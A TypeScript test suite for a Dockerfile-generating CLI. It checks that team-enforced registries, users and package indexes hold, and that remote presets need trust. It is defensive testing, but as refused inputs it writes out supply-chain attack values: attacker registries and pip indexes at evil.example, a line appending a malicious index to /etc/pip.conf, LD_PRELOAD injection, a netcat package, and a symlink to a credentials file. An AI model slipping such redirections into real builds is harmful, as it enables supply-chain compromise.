/** What a team enforces holds by every other way too; remote presets and links are trusted with nothing unseen. */
import { mkdir, readFile, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { outputFile } from 'fs-extra/esm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cli, folder } from '../support/cli.ts';

const APP = 'from fastapi import FastAPI\napp = FastAPI()\n@app.get("/health")\ndef health(): return {}\n';
const TEAM = {
  registry: 'r.example.com/ml',
  base: { registry: 'm.example.com/library' },
  user: 12345,
  indexes: { default: 'https://i.example.com/simple' },
  enforce: { registry: 'r', 'base.registry': 'r', user: 'r', 'indexes.default': 'r' },
};

let root: string;
let remove: () => Promise<unknown>;
beforeAll(async () => {
  ({ path: root, remove } = await folder());
});
afterAll(() => remove());

let count = 0;
async function writeProject(files: Record<string, string | object> = {}): Promise<string> {
  const dir = join(root, `p${++count}`);
  const all = { 'app.py': APP, 'requirements.txt': 'fastapi\n', 'team.json': TEAM, ...files };
  for (const [path, content] of Object.entries(all)) {
    await outputFile(join(dir, path), typeof content === 'string' ? content : JSON.stringify(content));
  }
  return dir;
}
const create = (dir: string, ...args: string[]) =>
  cli(['.', '--yes', '--offline', '--no-interactive', ...args], { cwd: dir });
const withTeam = (dir: string, ...args: string[]) => create(dir, '--preset', './team.json', ...args);
const overlay = (text: string) => ({ 'own.json': { templates: 't' }, 't/Dockerfile.d/before-command': text });

describe('enforce', () => {
  it.each([
    ['--image', 'evil.io/x'],
    ['--set', 'indexes.private.evil=https://evil.example/simple'],
    ['--set', 'indexes.pytorch=https://evil.example/whl'],
    ['--set', 'base.runtime=evil.io/python:3.12'],
    ['--set', 'uv.image=evil.io/uv:1'],
    ['--registry', 'evil.io'],
  ])('refuses %s %s', async (flag, value) => {
    const given = flag === '--registry' ? ['--set', `registry=${value}`] : [flag, value];
    const ran = await withTeam(await writeProject(), '--dry-run', ...given);
    expect(ran.code, ran.stdout).toBe(2);
    expect(ran.stderr).toMatch(/enforces/);
  });

  it.each([
    [{ image: 'evil.io/x' }],
    [{ indexes: { private: { evil: 'https://evil.example/simple' } } }],
    [{ indexes: { pytorch: 'https://evil.example/whl' } }],
    [{ uv: { image: 'evil.io/uv:1' } }],
  ])('refuses %j of ml-container.json and of another preset', async (values) => {
    const saved = await writeProject({ 'ml-container.json': values });
    const other = await writeProject({ 'own.json': values });
    for (const ran of [
      await withTeam(saved, '--dry-run'),
      await withTeam(other, '--preset', './own.json', '--dry-run'),
      await create(other, '--preset', './own.json', '--preset', './team.json', '--dry-run'),
    ]) {
      expect(ran.code, ran.stdout).toBe(2);
      expect(ran.stderr).toMatch(/enforces/);
    }
  });

  it('holds a field that another preset enforces as well, and a section of that preset', async () => {
    const own = { registry: 'r.example.com/ml', user: 12345, enforce: { registry: 'mine', user: 'mine' } };
    const image = await writeProject({ 'own.json': { ...own, image: 'evil.io/x' } });
    const section = await writeProject({ ...overlay('USER root'), 'own.json': { ...own, templates: 't' } });
    for (const dir of [image, section])
      for (const presets of [
        ['./own.json', './team.json'],
        ['./team.json', './own.json'],
      ]) {
        const ran = await create(dir, '--dry-run', ...presets.flatMap((path) => ['--preset', path]));
        expect(ran.code, ran.stdout).toBe(2);
        expect(ran.stderr).toMatch(/team\.json/);
      }
  });

  it('takes no enforced value from a preset that extends the same base', async () => {
    const files = { 'base.json': { user: 12345 }, 'own.json': { extends: ['./base.json'], user: 1 } };
    const team = { extends: ['./base.json'], enforce: { user: 'r' } };
    const dir = await writeProject({ ...files, 'team.json': team });
    const ran = await create(dir, '--preset', './own.json', '--preset', './team.json', '--dry-run');
    expect(ran.code, ran.stdout).toBe(2);
    expect(ran.stderr).toMatch(/user: 1 overrides what preset \.\/team\.json enforces \(12345\)/);
  });

  it('accepts an image below the registry', async () => {
    const ran = await withTeam(await writeProject(), '--dry-run', '--image', 'r.example.com/ml/api');
    expect(ran.code, ran.stderr).toBe(0);
  });

  it('refuses an index that the requirements name', async () => {
    const dir = await writeProject({ 'requirements.txt': '--extra-index-url https://evil.example/simple\nfastapi\n' });
    const ran = await withTeam(dir, '--dry-run');
    expect(ran.code, ran.stdout).toBe(2);
    expect(ran.stderr).toMatch(/enforces/);
  });

  it.each([
    ['USER root', 'runs as root'],
    ['COPY --from=evil.io/x:1 /x /x', 'evil.io/x:1'],
    ['ENV PIP_INDEX_URL=https://evil.example/simple', 'https://evil.example/simple'],
  ])('refuses a second preset with the section %j', async (text, words) => {
    const ran = await withTeam(await writeProject(overlay(text)), '--preset', './own.json', '--dry-run');
    expect(ran.code, ran.stdout).toBe(2);
    expect(ran.stderr.replace(/\s+/g, ' ')).toContain(words);
  });

  it('accepts the section of the preset that enforces', async () => {
    const dir = await writeProject({
      'team.json': { ...TEAM, templates: 't' },
      ...overlay('USER root\nRUN true\nUSER 12345'),
    });
    const ran = await withTeam(dir, '--dry-run');
    expect(ran.code, ran.stderr).toBe(0);
  });

  it('has check report a Dockerfile on disk with another base image, user or index', async () => {
    const dir = await writeProject();
    const made = await withTeam(dir);
    expect(made.code, made.stderr).toBe(0);
    const path = join(dir, 'Dockerfile');
    const text = await readFile(path, 'utf8');
    for (const [edited, words] of [
      [text.replaceAll('m.example.com', 'evil.io'), 'evil.io/library'],
      [text.replace(/^CMD /m, 'USER root\nCMD '), 'runs as root'],
      [text.replace(/^CMD /m, 'RUN pip install -i https://evil.example/simple x\nCMD '), 'https://evil.example/simple'],
      [text.replace(/^CMD /m, 'RUN pip config set global.index-url https://evil.example/a\nCMD '), 'evil.example/a'],
      [
        text.replace(/^CMD /m, 'RUN echo "index-url = https://evil.example/b" >> /etc/pip.conf\nCMD '),
        'evil.example/b',
      ],
      [text.replace(/^CMD /m, 'ARG X\nRUN pip install --extra-index-url $X x\nCMD '), 'takes packages from $X'],
      [`# syntax=evil.example/frontend:1\n${text}`, 'is built by the frontend evil.example/frontend:1'],
      [`# escape=\\\n#Syntax = evil.example/f:2\n${text}`, 'is built by the frontend evil.example/f:2'],
    ] as const) {
      await writeFile(path, edited);
      const ran = await cli(['check', dir, '--json']);
      expect(ran.code).toBe(1);
      expect(ran.stdout).toContain(words);
      // ml-container.json says nothing of it
      expect(ran.stdout).toContain('change that line, or have the preset changed');
    }
    await writeFile(path, text);
    expect((await cli(['check', dir, '--json'])).code).toBe(0);
  });
});

const takeDiff = (text: string): string[] => text.split('\n').filter((line) => line.startsWith('  + '));

describe('a remote preset', () => {
  const REMOTE = {
    base: { registry: 'evil.example/library' },
    uv: { image: 'evil.example/uv:1' },
    proxy: { url: 'http://evil.example:3128' },
    env: { LD_PRELOAD: '/x.so', PATH: '/x', PYTHONPATH: '/x', LOG_LEVEL: 'INFO' },
  };

  it('has its base image, tools, proxy and environment shown and refused until they are trusted', async () => {
    const dir = await writeProject({ 'node_modules/q/preset.json': REMOTE });
    const refused = await create(dir, '--preset', 'npm:q');
    expect(refused.code).toBe(1);
    for (const field of ['base.registry', 'uv.image', 'proxy.url', 'env.LD_PRELOAD', 'env.PATH', 'env.PYTHONPATH'])
      expect(refused.stderr).toContain(`+ ${field}:`);
    expect(refused.stderr).not.toContain('LOG_LEVEL');
    const accepted = await create(dir, '--preset', 'npm:q', '--trust');
    expect(accepted.code, accepted.stderr).toBe(0);
    expect((await create(dir)).code).toBe(0);
    const changed = JSON.stringify({ ...REMOTE, env: { LD_PRELOAD: '/y.so' } });
    await writeFile(join(dir, 'node_modules/q/preset.json'), changed);
    const again = await create(dir);
    expect(again.code).toBe(1);
    expect(again.stderr).toContain('+ env.LD_PRELOAD: "/y.so"');
  });

  it.each([
    [{ dependencies: ['evil-package==1.0'] }, '  + dependencies: "evil-package==1.0"\n'],
    [{ apt: ['netcat-openbsd', 'tini'] }, '  + apt: "netcat-openbsd"\n  + apt: "tini"\n'],
    [{ constraints: ['c.txt'] }, '  + constraints: "c.txt"\n  + c.txt:\n  +   urllib3==1.26.0\n  +   idna==2.0\n'],
    [{ requirements: 'other.txt' }, '  + requirements: "other.txt"\n'],
    [{ asOf: '2020-01-01' }, '  + asOf: "2020-01-01"\n'],
    [{ entry: 'other:app' }, '  + entry: "other:app"\n'],
    [{ pythonpath: 'vendored' }, '  + pythonpath: "vendored"\n'],
    [{ base: { suite: 'bookworm' } }, '  + base.suite: "bookworm"\n'],
    [{ settings: { 'bake.cache': 'evil.example/c' } }, '  + settings.bake.cache: "evil.example/c"\n'],
    [{ settings: { 'gitlab-ci.sbom-generator': 'evil.example/s:1' } }, '  + settings.gitlab-ci.sbom-generator'],
    [{ include: ['secrets'] }, '  + include: "secrets"\n'],
    [{ env: { OPENAI_BASE_URL: 'https://evil.example' } }, '  + env.OPENAI_BASE_URL: "https://evil.example"\n'],
    [{ env: { REDIS_HOST: 'evil' } }, '  + env.REDIS_HOST: "evil"\n'],
    [{ env: { FLASK_DEBUG: '1' } }, '  + env.FLASK_DEBUG: "1"\n'],
    [{ env: { ld_preload: 'x' } }, '  + env.ld_preload: "x"\n'],
    [{ env: { LOG_LEVEL: 'https://evil.example' } }, '  + env.LOG_LEVEL: "https://evil.example"\n'],
    [{ settings: { 'github-actions.runner': 'evil' } }, '  + settings.github-actions.runner: "evil"\n'],
  ])('has %j shown as lines of a diff and refused until it is trusted', async (settings, lines) => {
    const folder = 'node_modules/q';
    const dir = await writeProject({
      [`${folder}/preset.json`]: settings,
      [`${folder}/c.txt`]: 'urllib3==1.26.0\nidna==2.0\n',
      'other.txt': 'fastapi\n',
      'other.py': APP,
      'vendored/x.py': '',
    });
    const ran = await create(dir, '--preset', 'npm:q');
    expect(ran.code, ran.stdout).toBe(1);
    expect(ran.stderr).toContain(lines);
    expect(await readFile(join(dir, 'Dockerfile'), 'utf8').catch(() => 'none')).toBe('none');
  });

  it('has its templates shown line by line', async () => {
    const templates = 'RUN true\nRUN echo second\n';
    const dir = await writeProject({
      'node_modules/q/preset.json': { templates: 't' },
      'node_modules/q/t/Dockerfile.d/before-command': templates,
    });
    const ran = await create(dir, '--preset', 'npm:q');
    expect(ran.code, ran.stdout).toBe(1);
    expect(ran.stderr).toContain('  Dockerfile.d/before-command\n  | RUN true\n  | RUN echo second\n');
  });

  it.each([
    ['constraints', 'idna==2.1\n'],
    ['lock', `idna==3.10 --hash=sha256:${'1'.repeat(64)}\n`],
  ])('is asked about again when its %s say something else', async (field, changed) => {
    const value = field === 'lock' ? 'c.txt' : ['c.txt'];
    const dir = await writeProject({
      'node_modules/q/preset.json': { [field]: value },
      'node_modules/q/c.txt': 'idna==3.10\n',
    });
    const first = await create(dir, '--preset', 'npm:q');
    expect(first.code).toBe(1);
    await writeFile(join(dir, 'node_modules/q/c.txt'), changed);
    const again = await create(dir, '--preset', 'npm:q');
    expect(again.code).toBe(1);
    expect(takeDiff(again.stderr)).not.toEqual(takeDiff(first.stderr));
  });

  it('needs no trust for settings that choose no code', async () => {
    const dir = await writeProject({
      'node_modules/q/preset.json': { python: '3.12', env: { LOG_LEVEL: 'DEBUG', OMP_NUM_THREADS: '2' } },
    });
    const ran = await create(dir, '--preset', 'npm:q');
    expect(ran.code, ran.stderr).toBe(0);
  });
});

describe('a preset on disk', () => {
  it.each(['t', 't/inner'])('may not have templates %s behind a link that leaves its folder', async (templates) => {
    const dir = await writeProject({ 'p/preset.json': { templates } });
    const outside = `${dir}.outside`;
    await mkdir(join(outside, 'inner'), { recursive: true });
    await writeFile(join(outside, 'inner/credentials'), 'a secret');
    await symlink(outside, join(dir, 'p/t'));
    const ran = await create(dir, '--preset', './p/preset.json');
    expect(ran.code).toBe(2);
    expect(ran.stderr).toContain('is a link that leaves the folder of the preset');
  });

  it('may not bring constraints or a lock behind such a link', async () => {
    const dir = await writeProject({ 'p/preset.json': { constraints: ['c.txt'] } });
    await writeFile(`${dir}.txt`, 'a secret');
    await symlink(`${dir}.txt`, join(dir, 'p/c.txt'));
    const ran = await create(dir, '--preset', './p/preset.json');
    expect(ran.code).toBe(2);
    expect(ran.stderr).not.toContain('a secret');
  });
});
